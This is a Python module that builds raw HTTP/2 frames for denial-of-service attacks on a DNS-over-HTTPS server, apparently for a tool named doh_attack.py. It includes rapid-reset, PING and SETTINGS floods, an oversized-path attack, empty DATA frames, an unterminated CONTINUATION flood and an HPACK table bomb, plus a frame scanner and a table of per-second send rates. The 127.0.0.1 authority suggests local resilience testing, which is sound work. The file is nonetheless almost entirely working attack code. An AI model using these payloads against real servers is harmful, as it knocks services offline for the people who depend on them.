"""HTTP/2 frames of an attacking client, and a scanner of the frames from the server; without sockets.

Path: doh_attack.py -> here.
Source: RFC 9113 sections 3.4, 4.1, 5.1.1 and 6; RFC 7541 sections 5 and 6.2.2 and appendix A.
Rule 1: header fields are literals without indexing, so that a block does not depend on those before it.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_FRAME: Final = 16_384
_LARGEST_WINDOW = (1 << 31) - 1
_DEFAULT_WINDOW = 65_535
_INITIAL_WINDOW_SIZE = 4
_CANCEL = 8
_AUTHORITY, _GET, _POST, _PATH, _HTTPS = 1, 2, 3, 4, 7  # indexes of the static table
LONG_PATH: Final = 60_000  # octets
_ENTRY: Final = 4_000  # octets: nearly all of the table's
_NEWEST: Final = 0x80 | 62  # index of the table
_TIMES: Final = 15_000


class Frame(NamedTuple):
    """A received frame."""

    kind: int
    flags: int
    stream: int
    payload: bytes


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write a frame."""
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream.to_bytes(4, "big") + payload


def opening() -> bytes:
    """The first octets of a connection: the client accepts any amount of replies."""
    window = _INITIAL_WINDOW_SIZE.to_bytes(2, "big") + _LARGEST_WINDOW.to_bytes(4, "big")
    more = (_LARGEST_WINDOW - _DEFAULT_WINDOW).to_bytes(4, "big")
    return PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW, 0, 0, more)


def header_block(path: str, *, is_post: bool = False) -> bytes:
    """Write the fields of a request."""
    method = 0x80 | (_POST if is_post else _GET)
    return (
        bytes((method, 0x80 | _HTTPS))
        + bytes((_AUTHORITY,))
        + _string(b"127.0.0.1")
        + bytes((_PATH,))
        + _string(path.encode())
    )


def request(stream: int, block: bytes, *, ends: bool = True) -> bytes:
    """Write a request in as many frames as it needs."""
    pieces = [block[at : at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]
    out = []
    for number, piece in enumerate(pieces):
        last = END_HEADERS if number == len(pieces) - 1 else 0
        if number == 0:
            out.append(frame(HEADERS, last | (END_STREAM if ends else 0), stream, piece))
        else:
            out.append(frame(CONTINUATION, last, stream, piece))
    return b"".join(out)


def _string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, out = len(text) - 127, bytearray((127,))
    while rest >= 128:
        out.append(rest & 127 | 128)
        rest >>= 7
    out.append(rest)
    return bytes(out) + text


class FrameScanner:
    """Finds the frames in the octets of a server."""

    def __init__(self) -> None:
        self._data = bytearray()

    def feed(self, data: bytes) -> Iterator[Frame]:
        """Yield the complete frames."""
        self._data += data
        while len(self._data) >= 9:
            length = int.from_bytes(self._data[:3], "big")
            if len(self._data) < 9 + length:
                return
            kind, flags = self._data[3], self._data[4]
            stream = int.from_bytes(self._data[5:9], "big") & 0x7FFF_FFFF
            payload = bytes(self._data[9 : 9 + length])
            del self._data[: 9 + length]
            yield Frame(kind, flags, stream, payload)


class Attack(NamedTuple):
    """`units` per second on each connection; `write` makes the octets of some units, from a stream number on."""

    units: int
    write: Callable[[int, int, str], bytes]


def dns_path(query: bytes) -> str:
    """The path of a GET request for a query."""
    return "/dns-query?dns=" + base64.urlsafe_b64encode(query).rstrip(b"=").decode()


def _streams(first: int, count: int) -> range:
    return range(first, first + 2 * count, 2)


def _resets(first: int, count: int, path: str) -> bytes:
    block, code = header_block(path), _CANCEL.to_bytes(4, "big")
    return b"".join(
        request(stream, block) + frame(RESET, 0, stream, code) for stream in _streams(first, count)
    )


def _requests(first: int, count: int, path: str) -> bytes:
    block = header_block(path)
    return b"".join(request(stream, block) for stream in _streams(first, count))


def _pings(first: int, count: int, path: str) -> bytes:
    del first, path
    return frame(PING, 0, 0, b"pressure") * count


def _settings(first: int, count: int, path: str) -> bytes:
    del first, path
    return frame(SETTINGS, 0, 0) * count


def _paths(first: int, count: int, path: str) -> bytes:
    block = header_block(path + "&x=" + "a" * LONG_PATH)
    return b"".join(request(stream, block) for stream in _streams(first, count))


def _empty(first: int, count: int, path: str) -> bytes:
    opened = request(first, header_block(path, is_post=True), ends=False)
    return opened + frame(DATA, 0, first) * (count - 1)


def _continuations(first: int, count: int, path: str) -> bytes:
    del path
    if first == 1:  # a header block without end begins only once
        return frame(HEADERS, END_STREAM, first, header_block("/")) + _more(count - 1)
    return _more(count)


def _more(count: int) -> bytes:
    field = b"\0" + _string(b"x") + _string(b"y" * 64)
    return frame(CONTINUATION, 0, 1, field) * count


def _bombs(first: int, count: int, path: str) -> bytes:
    """A field enters the table of the connection with its first block, and stands in each many times."""
    entry = b"\x40" + _string(b"x") + _string(b"y" * _ENTRY)
    block = header_block(path) + bytes((_NEWEST,)) * _TIMES
    opened = request(first, header_block(path) + entry) if first == 1 else b""
    return opened + b"".join(request(each, block) for each in _streams(first + 2, count))


ATTACKS: Final = {
    "reset": Attack(1_000, _resets),
    "requests": Attack(1_000, _requests),
    "ping": Attack(10_000, _pings),
    "settings": Attack(10_000, _settings),
    "paths": Attack(50, _paths),
    "empty": Attack(10_000, _empty),
    "continuation": Attack(10_000, _continuations),
    "hpack": Attack(50, _bombs),
}
